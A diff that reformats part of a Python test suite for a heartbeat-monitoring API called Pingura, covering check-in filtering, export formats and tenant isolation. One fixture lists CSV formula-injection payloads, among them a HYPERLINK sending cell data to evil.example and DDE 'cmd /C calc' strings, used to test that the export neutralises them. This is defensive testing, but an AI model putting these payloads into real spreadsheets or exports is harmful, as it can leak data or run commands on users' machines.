@@ -76,7 +76,9 @@ async def test_check_ins_can_be_narrowed_to_kinds_and_a_time_range_on_every_page
     path = f"/heartbeats/{hb}/checkins"
 
     problems = await every_page(tenant, path, "checkins", kind="fail,missed", limit="1")
-    in_range = await every_page(tenant, path, "checkins", **{"from": iso(t - 5000), "to": str(t - 2000), "limit": "2"})
+    in_range = await every_page(
+        tenant, path, "checkins", **{"from": iso(t - 5000), "to": str(t - 2000), "limit": "2"}
+    )
     both = await every_page(tenant, path, "checkins", kind="missed", **{"from": str(t - 4000)})
 
     assert [(r["kind"], r["received_at_ms"]) for r in problems] == [
@@ -292,8 +294,12 @@ async def test_the_export_comes_as_csv_json_or_json_lines_with_the_same_rows(api
 
 
 FORMULAS = {
-    "message": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "status": "+cmd|' /C calc'!A0",
-    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0", "rid": "-2+3", "output": "\t=1+1", "duration_raw": "\r=1",
+    "message": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "status": "+cmd|' /C calc'!A0",
+    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "rid": "-2+3",
+    "output": "\t=1+1",
+    "duration_raw": "\r=1",
 }
 
 
@@ -308,7 +314,9 @@ async def test_the_csv_export_neutralizes_formulas_in_text_from_outside_and_json
     assert status == 200
     [row] = list(csv.DictReader(io.StringIO(text, newline="")))
     # OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading ' (shown as text).
-    assert {field: row[field] for field in FORMULAS} == {field: "'" + value for field, value in FORMULAS.items()}
+    assert {field: row[field] for field in FORMULAS} == {
+        field: "'" + value for field, value in FORMULAS.items()
+    }
     assert (row["exit_code"], row["duration"], row["kind"]) == ("3", "1.5", "fail")  # Pingura's own: as is
     status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "jsonl"})
     [line] = [json.loads(line) for line in text.splitlines()]
@@ -350,7 +358,9 @@ async def test_an_unknown_export_format_is_refused_naming_it(api):
 
 
 # tenancy -----------------------------------------------------------------------------------
-@pytest.mark.parametrize("resource", ["checkins", "uptime", "timings", "status-changes", "deliveries", "export"])
+@pytest.mark.parametrize(
+    "resource", ["checkins", "uptime", "timings", "status-changes", "deliveries", "export"]
+)
 async def test_another_projects_heartbeat_is_not_found(api, resource):
     owner, hb = await a_heartbeat(api)
     stranger = await new_tenant(api)
